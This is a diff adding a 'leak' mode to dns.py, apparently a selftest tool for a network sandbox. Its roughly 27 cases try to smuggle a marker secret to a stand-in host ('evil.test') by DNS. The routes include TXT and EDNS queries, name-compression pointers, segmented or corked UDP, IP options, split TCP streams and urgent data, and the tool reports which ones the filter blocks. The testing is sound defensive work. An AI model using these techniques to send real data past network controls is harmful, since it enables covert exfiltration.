@@ -5,6 +5,7 @@
 #   dns.py web                  port 80 at every address; prints those it is reached at
 #   dns.py serve ADDRESS        a server that answers as the first label of a name says
 #   dns.py try CASE...          asks, connects to what the answer gave; prints ok or EPERM
+#   dns.py leak                 sends data out in questions, in every way
 #   dns.py race NAME COUNT      resolve and connect at once, over and over
 #   dns.py local ADDRESS        forges answers on this host to its own question
 import errno, os, select, socket, struct, sys, threading
@@ -265,6 +266,98 @@ CASES = {
     "another-socket": another_socket,
 }
 
+# ---- Data in questions: each case sends what no rule allows, by a way of its own ----
+
+SECRET = "s3cr3t.evil.test"
+
+def sends(how):
+    try:
+        how()
+        return "sent"
+    except OSError as error:
+        return why(error)
+
+def datagram(*messages, connected=True, server=LIAR, options=()):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for level, name, value in options:
+        sock.setsockopt(level, name, value)
+    if connected:
+        sock.connect((server, 53))
+        sock.sendmsg(list(messages))
+    else:
+        sock.sendmsg(list(messages), [], 0, (server, 53))
+
+def corked():
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.connect((LIAR, 53))
+    message = question(SECRET)
+    sock.send(message[:20], socket.MSG_MORE)
+    sock.send(message[20:])
+
+def segmented():
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.connect((LIAR, 53))
+    one, two = question("aaaaaaaa.good.test"), question("s3cr3t.x.evil.test")
+    sock.setsockopt(socket.SOL_UDP, 103, len(one))	# UDP_SEGMENT
+    sock.send(one + two[:len(one)])
+
+def with_options():
+    datagram(question(SECRET), options=[(socket.SOL_IP, socket.IP_OPTIONS, b"\x01\x01\x01\x01")])
+
+def over_stream(*pieces):
+    sock = socket.create_connection((LIAR, 53), 5)
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    for piece in pieces:
+        sock.sendall(piece)
+        threading.Event().wait(0.05)
+    sock.settimeout(0.5)
+    try:
+        sock.recv(100)
+    except socket.timeout:
+        pass
+
+def urgent():
+    sock = socket.create_connection((LIAR, 53), 5)
+    message = framed(question(SECRET))
+    sock.send(message[:3], socket.MSG_OOB)
+    sock.send(message[3:])
+
+LEAKS = {
+    "plain": lambda: datagram(question(SECRET)),
+    "unconnected": lambda: datagram(question(SECRET), connected=False),
+    "long": lambda: datagram(question(("s3cr3t" + "x" * 57 + ".") * 3 + "evil.test")),
+    "txt": lambda: datagram(question(SECRET, kind=TXT)),
+    "null": lambda: datagram(question(SECRET, kind=NULL)),
+    "any": lambda: datagram(question(SECRET, kind=ANY)),
+    "edns": lambda: datagram(question(SECRET, arcount=1,
+                                      extra=b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0))),
+    "two": lambda: datagram(struct.pack(">HHHHHH", 1, 0x100, 2, 0, 0, 0) +
+                            name_wire("a.good.test") + struct.pack(">HH", 1, 1) +
+                            name_wire(SECRET) + struct.pack(">HH", 1, 1)),
+    "pointer": lambda: datagram(struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\6s3cr3t\xc0\x00"
+                                + struct.pack(">HH", 1, 1)),
+    "odd": lambda: datagram(question("s3cr3t evil.good.test")),
+    "response": lambda: datagram(question(SECRET, flags=0x8180)),
+    "update": lambda: datagram(question(SECRET, flags=0x2800)),
+    "chaos": lambda: datagram(question(SECRET)[:-1] + b"\3"),
+    "no-dns": lambda: datagram(b"s3cr3t"),
+    "profile": lambda: datagram(question("s3cr3t.profile.test")),
+    "pieces": lambda: datagram(question(SECRET)[:15], question(SECRET)[15:]),
+    "corked": corked,
+    "segmented": segmented,
+    "options": with_options,
+    "stub": lambda: datagram(question(SECRET), server="127.0.0.53"),
+    "stream": lambda: over_stream(framed(question(SECRET))),
+    "stream-split": lambda: over_stream(framed(question(SECRET))[:2], framed(question(SECRET))[2:]),
+    "stream-second": lambda: over_stream(framed(question("a.good.test")) + framed(question(SECRET))),
+    "stream-later": lambda: over_stream(framed(question("a.good.test")), framed(question(SECRET))),
+    "stream-bytes": lambda: over_stream(*[b"%c" % c for c in b"\0\6s3cr3t"]),
+    "stream-no-dns": lambda: over_stream(b"s3cr3t" * 100),
+    "urgent": urgent,
+}
+
+# io_uring and sendmmsg go by the programs of selftests/bin, with a message of their own.
+
 def race(name, count):
     bad = {}
     for i in range(count):
@@ -315,6 +408,9 @@ if __name__ == "__main__":
     elif what == "try":
         for case in sys.argv[2:]:
             print(case, CASES[case]())
+    elif what == "leak":
+        for case in LEAKS:
+            print(case, sends(LEAKS[case]))
     elif what == "dial":
         print(dial(sys.argv[2]))
     elif what == "race":
